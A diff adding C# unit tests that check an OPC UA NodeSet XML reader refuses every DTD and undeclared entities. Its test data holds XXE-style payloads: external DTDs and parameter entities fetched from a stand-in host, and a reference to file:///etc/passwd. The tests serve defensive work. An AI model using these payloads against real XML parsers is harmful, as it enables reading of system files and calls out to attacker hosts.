@@ -59,6 +59,27 @@ public sealed class NodeSet2ReaderRefusalTests
         Assert.Contains("DTD", error.Reason, StringComparison.Ordinal);
     }
 
+    // Attack class 30: there is no DTD in a NodeSet, whatever it holds and wherever it is.
+    [Theory]
+    [InlineData("""<!DOCTYPE UANodeSet>""")]
+    [InlineData("""<!DOCTYPE UANodeSet [ ]>""")]
+    [InlineData("""<!DOCTYPE UANodeSet SYSTEM "http://192.0.2.1/evil.dtd">""")]
+    [InlineData("""<!DOCTYPE UANodeSet PUBLIC "-//x//y" "file:///etc/passwd">""")]
+    [InlineData("""<!DOCTYPE UANodeSet [ <!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p; ]>""")]
+    [InlineData("""<!DOCTYPE UANodeSet [ <!ATTLIST UANodeSet LastModified CDATA "2020-01-01T00:00:00Z"> ]>""")]
+    public void A_DTD_is_refused_before_anything_is_read(string dtd)
+    {
+        var document = NodeSetXml.Document("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A" />""");
+        Assert.Single(NodeSetXml.ReadDocument(document).Nodes);
+        var start = document.IndexOf("<UANodeSet", StringComparison.Ordinal);
+        var error = NodeSetXml.Refused(() => NodeSetXml.ReadDocument(document.Insert(start, dtd)));
+        Assert.Contains("DTD", error.Reason, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void An_entity_that_is_not_declared_is_refused() =>
+        NodeSetXml.Refused(() => NodeSetXml.Read("""<UAObject NodeId="ns=1;i=1" BrowseName="1:A"><DisplayName>&e;</DisplayName></UAObject>"""));
+
     [Fact]
     public void An_external_entity_is_never_fetched()
     {
